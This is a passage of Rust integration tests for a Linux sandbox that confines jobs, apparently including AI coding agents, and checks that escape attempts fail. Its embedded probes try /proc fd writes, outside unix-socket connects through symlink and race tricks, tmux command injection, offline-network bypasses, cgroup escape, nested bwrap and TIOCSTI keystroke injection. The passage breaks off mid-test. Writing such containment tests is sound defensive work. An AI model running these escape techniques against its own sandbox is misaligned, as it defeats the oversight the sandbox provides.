    assert!(wait_until(Duration::from_secs(10), || {
        fs::read_link(format!("/proc/{pid}/fd/6")).is_ok()
    }));
    let out = attempt_in(
        &env,
        &repo,
        &format!(
            "echo evil >> /proc/{pid}/fd/5; echo evil > /proc/{pid}/fd/6; cat /proc/{pid}/fd/6 > /dev/null"
        ),
    );
    assert_said(&out, "Permission denied");
    outside.kill().unwrap();
    outside.wait().unwrap();
}

// ---- IPC doors and the network: the seccomp layer (its broker decides every connect) ----

/// A unix listener outside the job; `assert_untouched` proves no connection ever reached it.
struct Outside {
    listener: std::os::unix::net::UnixListener,
    path: PathBuf,
}

impl Outside {
    fn listen(path: PathBuf) -> Outside {
        let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
        listener.set_nonblocking(true).unwrap();
        Outside { listener, path }
    }

    fn path(&self) -> &str {
        self.path.to_str().unwrap()
    }

    #[track_caller]
    fn assert_untouched(&self) {
        match self.listener.accept() {
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
            other => panic!("a connection reached the outside socket: {other:?}"),
        }
    }
}

/// A Python attempt (TestEnv::probe), with `unix(path)`: connect to a unix socket and send to it.
fn probe(env: &TestEnv, name: &str, body: &str) -> String {
    env.probe(
        name,
        &format!(
            "def unix(path):\n\
             \x20   s = socket.socket(socket.AF_UNIX)\n\
             \x20   s.connect(path)\n\
             \x20   s.sendall(b'from-the-job')\n\
             {body}"
        ),
    )
}

#[test]
fn connect_to_a_path_named_unix_socket_outside_by_every_path() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let dir = env.path().join("outside dir");
    fs::create_dir(&dir).unwrap();
    let outside = Outside::listen(dir.join("agent.sock"));
    let prog = probe(
        &env,
        "paths.py",
        "target = sys.argv[1]\n\
         attempt('direct', lambda: unix(target))\n\
         os.symlink(target, 'link.sock')\n\
         attempt('symlink', lambda: unix('link.sock'))\n\
         os.symlink(os.path.dirname(target), 'linkdir')\n\
         attempt('symlinked dir', lambda: unix('linkdir/agent.sock'))\n\
         attempt('proc cwd', lambda: unix('/proc/self/cwd/link.sock'))\n\
         attempt('proc root', lambda: unix('/proc/self/root' + target))\n\
         fd = os.open(target, os.O_PATH)\n\
         attempt('proc fd', lambda: unix('/proc/self/fd/%d' % fd))\n\
         attempt('dev fd', lambda: unix('/dev/fd/%d' % fd))\n\
         attempt('proc pid fd', lambda: unix('/proc/%d/fd/%d' % (os.getpid(), fd)))\n\
         here = os.getcwd()\n\
         os.chdir(os.path.dirname(target))\n\
         attempt('relative', lambda: unix('agent.sock'))\n\
         attempt('dot dot', lambda: unix('../' + os.path.basename(os.path.dirname(target)) + '/agent.sock'))\n\
         os.chdir(here)\n\
         def from_thread():\n\
         \x20   os.chdir(os.path.dirname(target))\n\
         \x20   attempt('thread cwd', lambda: unix('agent.sock'))\n\
         t = threading.Thread(target=from_thread); t.start(); t.join()\n\
         os.chdir(here)\n\
         attempt('datagram', lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM))\n\
         attempt('seqpacket', lambda: socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET).connect(target))\n",
    );
    let (out, report) = attempt_with(
        &env,
        &repo,
        &[],
        &format!("python3 {prog} '{}'", outside.path()),
        || {},
    );
    for name in [
        "direct",
        "symlink",
        "symlinked dir",
        "proc cwd",
        "proc root",
        "proc fd",
        "dev fd",
        "proc pid fd",
        "relative",
        "dot dot",
        "thread cwd",
        "datagram",
    ] {
        assert_said(&out, &format!("{name}: EACCES"));
    }
    // A seqpacket socket never reaches a stream listener; the kernel says so, nothing arrives.
    assert!(!stdout(&out).contains("seqpacket: ok"), "{}", stdout(&out));
    outside.assert_untouched();
    assert!(
        report["sandbox"]["refused"]["unix_connect"]
            .as_u64()
            .unwrap()
            >= 11,
        "{report}"
    );
}

#[test]
fn an_outside_socket_in_a_directory_the_job_may_write_is_still_outside() {
    // The job may write the directory (here --allow-write; with `--policy codex`, ~/.codex where
    // the agent's own daemon listens), but the socket in it is served from outside.
    let env = TestEnv::new();
    let repo = env.repo("app");
    let shared = env.path().join("shared");
    fs::create_dir(&shared).unwrap();
    let outside = Outside::listen(shared.join("daemon.sock"));
    let codex = env.home.join(".codex/app-server-control");
    fs::create_dir_all(&codex).unwrap();
    let daemon = Outside::listen(codex.join("app-server-control.sock"));
    let prog = probe(
        &env,
        "shared.py",
        "attempt('shared', lambda: unix(sys.argv[1]))\n\
         attempt('daemon', lambda: unix(sys.argv[2]))\n\
         # Its own socket beside them works.\n\
         own = os.path.join(os.path.dirname(sys.argv[1]), 'own.sock')\n\
         srv = socket.socket(socket.AF_UNIX); srv.bind(own); srv.listen()\n\
         attempt('own', lambda: unix(own))\n",
    );
    let allow = shared.to_str().unwrap();
    let (out, _) = attempt_with(
        &env,
        &repo,
        &["--policy", "codex", "--allow-write", allow],
        &format!("python3 {prog} '{}' '{}'", outside.path(), daemon.path()),
        || {},
    );
    assert_said(&out, "shared: EACCES");
    assert_said(&out, "daemon: EACCES");
    assert_said(&out, "own: ok");
    outside.assert_untouched();
    daemon.assert_untouched();
}

#[test]
fn a_datagram_listener_outside_receives_nothing() {
    use std::os::unix::net::UnixDatagram;
    let env = TestEnv::new();
    let repo = env.repo("app");
    let path = env.path().join("log.sock");
    let outside = UnixDatagram::bind(&path).unwrap();
    outside.set_nonblocking(true).unwrap();
    let prog = probe(
        &env,
        "dgram.py",
        "def send(kind):\n\
         \x20   s = socket.socket(socket.AF_UNIX, kind)\n\
         \x20   s.sendto(b'from-the-job', sys.argv[1])\n\
         attempt('dgram', lambda: send(socket.SOCK_DGRAM))\n\
         attempt('raw', lambda: send(socket.SOCK_RAW))\n\
         def pair():\n\
         \x20   a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n\
         \x20   a.sendto(b'from-the-job', sys.argv[1])\n\
         attempt('pair', pair)\n\
         attempt('logger', lambda: os.system('logger -u %s from-the-job 2>/dev/null' % sys.argv[1]))\n",
    );
    let out = attempt_in(&env, &repo, &format!("python3 {prog} {}", path.display()));
    assert_said(&out, "dgram: EACCES");
    assert_said(&out, "raw: EACCES");
    assert_said(&out, "pair: EACCES");
    let mut buf = [0u8; 64];
    assert!(
        outside.recv(&mut buf).is_err(),
        "a datagram reached the outside socket"
    );
}

#[test]
fn tmux_of_the_user_runs_nothing_outside_the_sandbox() {
    // The user's tmux server (a real one, on a socket of its own) and a job started from inside it:
    // by $TMUX, by -S, by the default socket path, nothing the job asks tmux runs outside.
    let env = TestEnv::new();
    let repo = env.repo("app");
    let socket = env.path().join("tmux-sock");
    let tmux = |args: &[&str]| {
        let mut cmd = std::process::Command::new("tmux");
        env.apply(&mut cmd);
        cmd.arg("-S").arg(&socket).args(args);
        finish(
            cmd.stdin(Stdio::null())
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap(),
            LIMIT,
        )
    };
    assert_status(&tmux(&["new-session", "-d", "-s", "user", "sleep 600"]), 0);
    let pwned = env.path().join("pwned");
    let secret = env.home.join("secret");
    fs::write(&secret, "the user's secret\n").unwrap();
    let sock = socket.display();
    let script = format!(
        "echo \"TMUX=${{TMUX:-unset}}\"; \
         tmux new-window 'touch {p}.1'; \
         tmux -S {sock} new-window 'touch {p}.2'; \
         tmux -S {sock} run-shell 'touch {p}.3'; \
         tmux -S {sock} send-keys -t user 'touch {p}.4' Enter; \
         python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{sock}')\" 2>&1 | tail -1",
        p = pwned.display(),
    );
    let mut cmd = env.isolate_cmd(
        &repo,
        [
            "run",
            "--worktree",
            "--policy",
            "strict",
            "--",
            "sh",
            "-c",
            &script,
        ],
    );
    cmd.env("TMUX", format!("{sock},1234,0"))
        .env("TMUX_PANE", "%0");
    let out = finish(cmd.stdin(Stdio::null()).spawn().unwrap(), LIMIT);
    // Give a window tmux might have opened the time to run its command.
    std::thread::sleep(Duration::from_millis(500));
    let _ = tmux(&["kill-server"]);
    assert_status(&out, 0);
    assert_said(&out, "TMUX=unset");
    assert_said(&out, "PermissionError");
    for n in 1..=4 {
        assert!(
            !env.path().join(format!("pwned.{n}")).exists(),
            "tmux ran the job's command {n} outside the sandbox"
        );
    }
}

/// A unix listener started by the test as another program would: `prefix` (for example
/// `unshare -rn`) before a Python listener on `name` (a path, or `@name` for an abstract one) that
/// prints `ready`, then `ACCEPTED` if anything connects within `seconds`.
fn foreign_listener(
    env: &TestEnv,
    prefix: &[&str],
    name: &str,
    seconds: u32,
) -> std::process::Child {
    let prog = env.file(
        "listener.py",
        "import socket, sys, time\n\
         name = sys.argv[1]\n\
         s = socket.socket(socket.AF_UNIX)\n\
         s.bind('\\0' + name[1:] if name.startswith('@') else name)\n\
         s.listen()\n\
         print('ready', flush=True)\n\
         s.settimeout(float(sys.argv[2]))\n\
         try:\n\
         \x20   c, _ = s.accept(); print('ACCEPTED', c.recv(64), flush=True)\n\
         except socket.timeout:\n\
         \x20   print('nothing', flush=True)\n",
    );
    let mut argv: Vec<String> = prefix.iter().map(|s| s.to_string()).collect();
    argv.extend([
        "python3".into(),
        prog.display().to_string(),
        name.into(),
        seconds.to_string(),
    ]);
    let mut cmd = std::process::Command::new(&argv[0]);
    env.apply(&mut cmd);
    let mut child = cmd
        .args(&argv[1..])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    let mut out = std::io::BufReader::new(child.stdout.take().unwrap());
    std::io::BufRead::read_line(&mut out, &mut line).unwrap();
    assert_eq!(line.trim(), "ready", "the listener did not start");
    child.stdout = Some(out.into_inner());
    child
}

#[track_caller]
fn assert_not_reached(listener: std::process::Child) {
    let out = finish(listener, LIMIT);
    assert!(
        !stdout(&out).contains("ACCEPTED"),
        "the outside listener was reached: {}",
        stdout(&out)
    );
}

#[test]
fn a_socket_served_from_another_network_namespace_is_outside() {
    // sock_diag lists the sockets of the broker's network namespace only; the kernel finds a
    // path-named socket by its inode in any. Not finding a listener is a refusal, never a connect.
    let env = TestEnv::new();
    let repo = env.repo("app");
    let path = env.path().join("netns.sock");
    let listener = foreign_listener(&env, &["unshare", "-rn"], path.to_str().unwrap(), 3);
    let prog = probe(
        &env,
        "netns.py",
        "attempt('netns', lambda: unix(sys.argv[1]))\n",
    );
    let out = attempt_in(&env, &repo, &format!("python3 {prog} {}", path.display()));
    assert!(!stdout(&out).contains("netns: ok"), "{}", stdout(&out));
    assert_not_reached(listener);
}

#[test]
fn an_abstract_name_squatted_by_a_kept_accepted_socket_vouches_for_nobody() {
    // The job's listener accepts one connection, closes, and keeps the accepted socket, which
    // keeps the name; an outside process then binds the name. The job's connect must not reach it.
    // (The job may bind no abstract name of its choosing: its listener's is the kernel's, an
    // autobound one, which the job leaves in its worktree for this test to find.)
    let env = TestEnv::new();
    let repo = env.repo("app");
    let held = env.path().join("held");
    let go = env.path().join("go");
    let prog = probe(
        &env,
        "squat.py",
        "l = socket.socket(socket.AF_UNIX); l.bind(''); name = l.getsockname()\n\
         open('name.txt.tmp', 'w').write(name[1:].decode()); os.rename('name.txt.tmp', 'name.txt')\n\
         l.listen()\n\
         c = socket.socket(socket.AF_UNIX); c.connect(name); a, _ = l.accept()\n\
         while not os.path.exists(sys.argv[1]): time.sleep(0.02)\n\
         l.close(); c.close()\n\
         print('squatting', flush=True)\n\
         while not os.path.exists(sys.argv[2]): time.sleep(0.02)\n\
         attempt('squat', lambda: unix(name))\n",
    );
    let pending = Pending::start(
        &env,
        &repo,
        &[],
        &format!("python3 {prog} {} {}", held.display(), go.display()),
        Stdio::null(),
    );
    let worktrees = env.state.join("worktrees");
    let named = || {
        let projects = fs::read_dir(&worktrees).ok()?;
        for project in projects.flatten() {
            for job in fs::read_dir(project.path()).ok()?.flatten() {
                if let Ok(name) = fs::read_to_string(job.path().join("name.txt")) {
                    return Some(name);
                }
            }
        }
        None
    };
    assert!(
        wait_until(LIMIT, || named().is_some()),
        "the job never named its listener"
    );
    let name = named().unwrap();
    // Whether an outside process can bind the name now.
    let free = || {
        std::process::Command::new("python3")
            .args([
                "-c",
                &format!(
                    "import socket; s = socket.socket(socket.AF_UNIX); s.bind('\\x00{name}'); s.close()"
                ),
            ])
            .stderr(Stdio::null())
            .status()
            .unwrap()
            .success()
    };
    // The job holds the name (its listener is bound), then lets it go; only then does the
    // outside bind it.
    assert!(
        wait_until(LIMIT, || !free()),
        "the job never bound the name"
    );
    fs::write(&held, "").unwrap();
    assert!(wait_until(LIMIT, free), "the job never released the name");
    let listener = foreign_listener(&env, &[], &format!("@{name}"), 3);
    fs::write(&go, "").unwrap();
    let (out, _) = pending.finish(&env, || {});
    assert_said(&out, "squatting");
    assert!(!stdout(&out).contains("squat: ok"), "{}", stdout(&out));
    assert_not_reached(listener);
}

/// A mount made for a test, unmounted when dropped.
struct Mounted(PathBuf);

impl Drop for Mounted {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount")
            .arg("-l")
            .arg(&self.0)
            .status();
    }
}

#[test]
fn sockets_on_an_overlay_are_judged_by_their_own_identity() {
    // On an overlay whose upper layer is another filesystem, stat() gives the upper layer's
    // device while sock_diag gives the overlay's: the broker matches by the open file's mount.
    // An outside socket there is refused, the job's own there works. Needs mounts (root).
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        eprintln!("skipped: mounting an overlay needs root");
        return;
    }
    let env = TestEnv::new();
    let repo = env.repo("app");
    let base = env.path().join("ovl");
    for d in ["lower", "tmp", "merged"] {
        fs::create_dir_all(base.join(d)).unwrap();
    }
    let run = |args: &[&str]| {
        let status = std::process::Command::new(args[0])
            .args(&args[1..])
            .status()
            .unwrap();
        assert!(status.success(), "{args:?}");
    };
    let tmp = base.join("tmp");
    run(&["mount", "-t", "tmpfs", "tmpfs", tmp.to_str().unwrap()]);
    let _tmp = Mounted(tmp.clone());
    fs::create_dir_all(tmp.join("upper")).unwrap();
    fs::create_dir_all(tmp.join("work")).unwrap();
    let merged = base.join("merged");
    let options = format!(
        "lowerdir={},upperdir={},workdir={}",
        base.join("lower").display(),
        tmp.join("upper").display(),
        tmp.join("work").display()
    );
    run(&[
        "mount",
        "-t",
        "overlay",
        "overlay",
        "-o",
        &options,
        merged.to_str().unwrap(),
    ]);
    let _merged = Mounted(merged.clone());
    let outside = merged.join("outside.sock");
    let listener = foreign_listener(&env, &[], outside.to_str().unwrap(), 3);
    let prog = probe(
        &env,
        "overlay.py",
        "attempt('outside', lambda: unix(sys.argv[1]))\n\
         own = os.path.join(sys.argv[2], 'own.sock')\n\
         srv = socket.socket(socket.AF_UNIX); srv.bind(own); srv.listen()\n\
         attempt('own', lambda: unix(own))\n",
    );
    let (out, _) = attempt_with(
        &env,
        &repo,
        &["--allow-write", merged.to_str().unwrap()],
        &format!("python3 {prog} {} {}", outside.display(), merged.display()),
        || {},
    );
    assert!(!stdout(&out).contains("outside: ok"), "{}", stdout(&out));
    assert_said(&out, "own: ok");
    assert_not_reached(listener);
}

#[test]
fn a_symlink_or_an_address_swapped_during_the_connect_never_reaches_outside() {
    // Race the broker: one thread flips a symlink between the job's own socket and the outside one,
    // another rewrites the address buffer in place and swaps the descriptor under the connect,
    // while connects run in a loop. Every connect that succeeds reached the job's own server.
    let env = TestEnv::new();
    let repo = env.repo("app");
    let outside = Outside::listen(env.path().join("outside.sock"));
    let prog = probe(
        &env,
        "race.py",
        "target = sys.argv[1].encode()\n\
         srv = socket.socket(socket.AF_UNIX); srv.bind('own.sock'); srv.listen(4096)\n\
         srv.setblocking(False)\n\
         def drain():\n\
         \x20   while True:\n\
         \x20       try: srv.accept()[0].close()\n\
         \x20       except BlockingIOError: return\n\
         own = os.path.abspath('own.sock').encode()\n\
         os.symlink('own.sock', 'flip')\n\
         flip = os.path.abspath('flip')\n\
         stop = False\n\
         def flipper():\n\
         \x20   while not stop:\n\
         \x20       for dest in (target, b'own.sock'):\n\
         \x20           try: os.symlink(dest, 'flip.new'); os.replace('flip.new', 'flip')\n\
         \x20           except OSError: pass\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         buf = ctypes.create_string_buffer(110)\n\
         def put(path):\n\
         \x20   ctypes.memmove(buf, b'\\x01\\x00' + path + b'\\x00', len(path) + 3)\n\
         put(own)\n\
         def rewriter():\n\
         \x20   while not stop:\n\
         \x20       put(target); put(own)\n\
         for f in (flipper, rewriter): threading.Thread(target=f, daemon=True).start()\n\
         ok = refused = 0\n\
         deadline = time.time() + 2\n\
         while time.time() < deadline:\n\
         \x20   s = socket.socket(socket.AF_UNIX)\n\
         \x20   try: s.connect(flip); ok += 1\n\
         \x20   except OSError: refused += 1\n\
         \x20   s.close()\n\
         \x20   s = socket.socket(socket.AF_UNIX)\n\
         \x20   if libc.connect(s.fileno(), buf, 110) == 0: ok += 1\n\
         \x20   else: refused += 1\n\
         \x20   s.close()\n\
         \x20   drain()\n\
         # The descriptor swapped under the connect: a TCP socket one moment, a unix one the next.\n\
         put(target)\n\
         tcp = socket.socket()\n\
         n = socket.socket(socket.AF_UNIX).detach()\n\
         def swapper():\n\
         \x20   while not stop:\n\
         \x20       spare = socket.socket(socket.AF_UNIX)\n\
         \x20       os.dup2(spare.fileno(), n); spare.close(); os.dup2(tcp.fileno(), n)\n\
         threading.Thread(target=swapper, daemon=True).start()\n\
         deadline = time.time() + 1\n\
         while time.time() < deadline:\n\
         \x20   if libc.connect(n, buf, 110) == 0: ok += 1000000\n\
         stop = True\n\
         print('ok %d refused %d' % (ok, refused))\n",
    );
    let out = attempt_in(&env, &repo, &format!("python3 {prog} {}", outside.path()));
    let text = stdout(&out);
    let counts: Vec<u64> = text
        .split_whitespace()
        .filter_map(|w| w.parse().ok())
        .collect();
    assert!(
        counts.len() == 2 && counts[0] > 0 && counts[1] > 0,
        "the race did not run both ways: {text}"
    );
    outside.assert_untouched();
}

/// Every way past an offline policy's network that the filter and Landlock must close, as a
/// probe taking the TCP and UDP ports of listeners outside.
fn bypass_probe(env: &TestEnv) -> String {
    probe(
        env,
        "bypass.py",
        "port, uport = int(sys.argv[1]), int(sys.argv[2])\n\
         addr = ('127.0.0.1', port)\n\
         def plain():\n\
         \x20   socket.create_connection(addr, timeout=5).sendall(b'x')\n\
         attempt('tcp', plain)\n\
         def mptcp():\n\
         \x20   s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.connect(addr); s.sendall(b'x')\n\
         attempt('mptcp', mptcp)\n\
         def mptcp6():\n\
         \x20   s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM, 262); s.connect(('::ffff:127.0.0.1', port))\n\
         attempt('mptcp6', mptcp6)\n\
         def sctp():\n\
         \x20   socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect(addr)\n\
         attempt('sctp', sctp)\n\
         def fastopen():\n\
         \x20   socket.socket().sendto(b'x', socket.MSG_FASTOPEN, addr)\n\
         attempt('fastopen', fastopen)\n\
         def fastopen_msg():\n\
         \x20   socket.socket().sendmsg([b'x'], [], socket.MSG_FASTOPEN, addr)\n\
         attempt('fastopen sendmsg', fastopen_msg)\n\
         def fastopen_connect():\n\
         \x20   s = socket.socket(); s.setsockopt(socket.IPPROTO_TCP, 30, 1); s.connect(addr); s.sendall(b'x')\n\
         attempt('fastopen connect', fastopen_connect)\n\
         def listen_unbound():\n\
         \x20   s = socket.socket(); s.listen(); print('listening on', s.getsockname())\n\
         attempt('listen', listen_unbound)\n\
         def udp():\n\
         \x20   socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', uport))\n\
         attempt('udp', udp)\n\
         def dns():\n\
         \x20   socket.getaddrinfo('example.com', 80)\n\
         try: dns(); print('dns: ok')\n\
         except OSError as e: print('dns: failed')\n\
         def ping():\n\
         \x20   socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).sendto(b'x', ('127.0.0.1', 0))\n\
         attempt('ping', ping)\n",
    )
}

/// The names `bypass_probe` prints, each of which must be refused.
const BYPASSES: [&str; 10] = [
    "tcp",
    "mptcp",
    "mptcp6",
    "sctp",
    "fastopen",
    "fastopen sendmsg",
    "fastopen connect",
    "listen",
    "udp",
    "ping",
];

/// A TCP and a UDP listener on loopback outside the job, for `bypass_probe`.
fn outside_listeners() -> (std::net::TcpListener, std::net::UdpSocket) {
    let tcp = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    (tcp, udp)
}

/// Every bypass of `bypass_probe` was refused, and nothing reached the listeners outside.
#[track_caller]
fn assert_no_bypass(out: &Output, tcp: &std::net::TcpListener, udp: &std::net::UdpSocket) {
    for name in BYPASSES {
        assert_said(out, &format!("{name}: EACCES"));
    }
    assert_said(out, "dns: failed");
    assert!(!stdout(out).contains("listening on"), "{}", stdout(out));
    assert!(
        matches!(tcp.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "a TCP connection reached the listener"
    );
    udp.set_read_timeout(Some(Duration::from_millis(300)))
        .unwrap();
    let mut buf = [0u8; 16];
    assert!(udp.recv(&mut buf).is_err(), "a datagram left the job");
}

#[test]
fn network_bypasses_under_offline_deliver_nothing() {
    // The Landlock-only tier, where each bypass is refused by name; in the namespaces tier there is
    // no route out at all (ordinary.rs).
    let env = TestEnv::landlock_only();
    let repo = env.repo("app");
    let (tcp, udp) = outside_listeners();
    let prog = bypass_probe(&env);
    let (out, report) = attempt_with(
        &env,
        &repo,
        &["--policy", "offline"],
        &format!(
            "python3 {prog} {} {}",
            tcp.local_addr().unwrap().port(),
            udp.local_addr().unwrap().port()
        ),
        || {},
    );
    assert_no_bypass(&out, &tcp, &udp);
    let refused = &report["sandbox"]["refused"];
    assert!(refused["tcp_connect"].as_u64().unwrap() >= 1, "{report}");
    assert!(refused["listen"].as_u64().unwrap() >= 1, "{report}");
}

#[test]
fn raw_packet_and_exotic_sockets_io_uring_and_user_namespaces_are_refused() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let prog = probe(
        &env,
        "kernel.py",
        "attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))\n\
         attempt('raw6', lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6))\n\
         attempt('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))\n\
         attempt('vsock', lambda: socket.socket(40, socket.SOCK_STREAM))\n\
         attempt('bluetooth', lambda: socket.socket(31, socket.SOCK_STREAM))\n\
         attempt('usersock', lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2))\n\
         attempt('netlink route', lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         libc.syscall.restype = ctypes.c_long\n\
         def high_bits():\n\
         \x20   # socket(AF_INET, SOCK_RAW) with bits above the int set: the kernel reads the int.\n\
         \x20   if libc.syscall(ctypes.c_long(41), ctypes.c_long(2 | (1 << 32)), ctypes.c_long(3), ctypes.c_long(1)) < 0:\n\
         \x20       raise OSError(ctypes.get_errno(), 'socket')\n\
         attempt('high bits', high_bits)\n\
         params = ctypes.create_string_buffer(120)\n\
         def uring():\n\
         \x20   if libc.syscall(425, 8, params) < 0: raise OSError(ctypes.get_errno(), 'io_uring')\n\
         attempt('io_uring', uring)\n\
         def userns():\n\
         \x20   if libc.unshare(0x10000000) != 0: raise OSError(ctypes.get_errno(), 'unshare')\n\
         attempt('unshare', userns)\n\
         def clone3():\n\
         \x20   if libc.syscall(435, params, 88) < 0: raise OSError(ctypes.get_errno(), 'clone3')\n\
         attempt('clone3', clone3)\n\
         def keyring():\n\
         \x20   if libc.syscall(250, 0, -3) < 0: raise OSError(ctypes.get_errno(), 'keyctl')\n\
         attempt('keyctl', keyring)\n",
    );
    let out = attempt_in(
        &env,
        &repo,
        &format!("python3 {prog}; unshare -U true || echo unshare-failed; unshare -rn true || echo unshare-r-failed"),
    );
    for (name, errno) in [
        ("raw", "EPERM"),
        ("raw6", "EPERM"),
        ("packet", "EAFNOSUPPORT"),
        ("vsock", "EAFNOSUPPORT"),
        ("bluetooth", "EAFNOSUPPORT"),
        ("usersock", "EPROTONOSUPPORT"),
        ("netlink route", "ok"),
        ("io_uring", "ENOSYS"),
        ("unshare", "EPERM"),
        ("clone3", "ENOSYS"),
        ("keyctl", "EPERM"),
    ] {
        assert_said(&out, &format!("{name}: {errno}"));
    }
    assert!(!stdout(&out).contains("high bits: ok"), "{}", stdout(&out));
    assert_said(&out, "unshare-failed");
    assert_said(&out, "unshare-r-failed");
}

#[test]
fn a_nested_sandbox_cannot_start_so_it_cannot_write_the_project() {
    // Agents that bring bubblewrap (Codex's sandbox, Claude Code's) need a user namespace and
    // mounts; inside isolate neither is possible (the seccomp layer refuses the namespace, Landlock
    // refuses mounts and the uid map), so they fail at once and write nothing.
    let (_, out) = attempt(
        "bwrap --ro-bind / / --dev /dev --bind \"$ISOLATE_REPO\" /mnt touch /mnt/pwned; echo \"bwrap: $?\"; \
         bwrap --unshare-user --ro-bind / / --bind \"$ISOLATE_REPO\" /mnt true; echo \"bwrap userns: $?\"; \
         unshare -U true; echo \"unshare: $?\"; unshare -r true; echo \"unshare -r: $?\"",
    );
    for name in ["bwrap", "bwrap userns", "unshare", "unshare -r"] {
        assert_said(&out, &format!("{name}: 1"));
    }
    assert_said(&out, "Operation not permitted");
}

#[test]
fn leave_the_jobs_cgroup_or_write_cgroup_files() {
    let env = TestEnv::new();
    let repo = env.repo("app");
    let mount = fs::read_to_string("/proc/mounts")
        .unwrap()
        .lines()
        .find_map(|l| {
            let f: Vec<&str> = l.split(' ').collect();
            (f.get(2) == Some(&"cgroup2")).then(|| f[1].to_string())
        })
        .unwrap_or_default();
    let script = format!(
        "CG='{mount}'; OWN=$(sed -n 's/^0:://p' /proc/self/cgroup); echo \"before: $OWN\"; \
         echo $$ > \"$CG/cgroup.procs\"; echo $$ > \"$CG$OWN/../cgroup.procs\"; mkdir \"$CG/isolate-escape\"; \
         echo max > \"$CG$OWN/pids.max\"; echo 1 > \"$CG$OWN/cgroup.freeze\"; \
         echo \"after: $(sed -n 's/^0:://p' /proc/self/cgroup)\""
    );
    let (out, report) = attempt_with(&env, &repo, &[], &script, || {});
    let text = stdout(&out);
    let line = |p: &str| {
        text.lines()
            .find_map(|l| l.strip_prefix(p))
            .unwrap_or_default()
            .to_string()
    };
    assert_eq!(line("before: "), line("after: "), "{text}");
    if let Some(cgroup) = report["cgroup"].as_str() {
        assert!(cgroup.ends_with(&line("before: ")), "{cgroup}: {text}");
    }
    assert!(!Path::new(&mount).join("isolate-escape").exists());
    assert_said(&out, "Permission denied");
}

#[test]
fn tiocsti_into_a_terminal_passed_through_with_no_pty() {
    // The job is in a session of its own: the caller's terminal, passed through as its stdin, is not
    // its controlling terminal, so TIOCSTI is refused (it would need CAP_SYS_ADMIN). Nor is it
    // when the job first makes it its controlling terminal (TIOCSCTTY: a terminal that no session
    // controls, as an orchestrator's `openpty` without `setsid` leaves it), where the kernel lets
    // TIOCSTI through with `dev.tty.legacy_tiocsti=1`; nor TIOCLINUX's paste.
    let env = TestEnv::new();
    let repo = env.repo("app");
    let (master, slave) = openpty();
    let marker = env.path().join("INJECTED");
    let prog = program(
        &env,
        "tiocsti.py",
        &format!(
            "import errno, fcntl, os, termios\n\
             try:\n\
             \x20   os.setsid()\n\
             \x20   fcntl.ioctl(0, termios.TIOCSCTTY, 0)\n\
             \x20   print('controlling')\n\
             except OSError as e:\n\
             \x20   print('tiocsctty', errno.errorcode[e.errno])\n\
             try:\n\
             \x20   for c in b'touch {}\\n': fcntl.ioctl(0, termios.TIOCSTI, bytes([c]))\n\
             \x20   print('injected')\n\
             except OSError as e:\n\
             \x20   print('tiocsti', errno.errorcode[e.errno])\n\
             try:\n\
             \x20   fcntl.ioctl(0, 0x541C, bytes([2]) + bytes(10))\n\
             \x20   print('pasted')\n\
             except OSError as e:\n\
             \x20   print('tioclinux', errno.errorcode[e.errno])\n",
            marker.display()
        ),
    );
    let reader = slave.try_clone().unwrap();
    let pending = Pending::start(
        &env,
        &repo,
        &["--no-pty"],
        &format!("test -t 0 && echo stdin-is-a-terminal; python3 {prog}"),
        Stdio::from(slave),
    );
    let (out, _) = pending.finish(&env, || {});
    assert_said(&out, "stdin-is-a-terminal");
    assert_said(&out, "controlling");
    assert_said(&out, "tiocsti EPERM");
    assert_said(&out, "tioclinux EPERM");
    // Nothing waits in the terminal's input queue for the caller's shell to read.
    // SAFETY: fcntl and read on a descriptor this test owns, into a buffer of the length given.
    unsafe {
        let fd = std::os::fd::AsRawFd::as_raw_fd(&reader);
        libc::fcntl(fd, libc::F_SETFL, libc::O_NONBLOCK);
        let mut buf = [0u8; 64];
        let n = libc::read(fd, buf.as_mut_ptr().cast(), buf.len());
        assert!(n <= 0, "{:?}", String::from_utf8_lossy(&buf[..n as usize]));
    }
    assert!(!marker.exists());
    drop(master);
}

#[test]
fn the_users_terminals_stay_out_of_reach_while_the_job_makes_its_own() {
    // A terminal of the user's (a pty this test holds, as a shell in another window would): the job
    // may make ptys of its own, but may neither read this one (the keystrokes typed there), nor
    // write to it, nor push keystrokes into it, by its path or through /proc.
    let env = TestEnv::new();
    let repo = env.repo("app");
    use std::os::fd::AsRawFd;
    let (master_fd, slave_fd) = openpty();
    let (master, slave) = (master_fd.as_raw_fd(), slave_fd.as_raw_fd());
    // SAFETY: ptsname_r writes a NUL-terminated name into the buffer.
    let mut name = [0u8; 64];
    assert_eq!(
        // SAFETY: ptsname_r writes at most name.len() bytes, NUL-terminated.
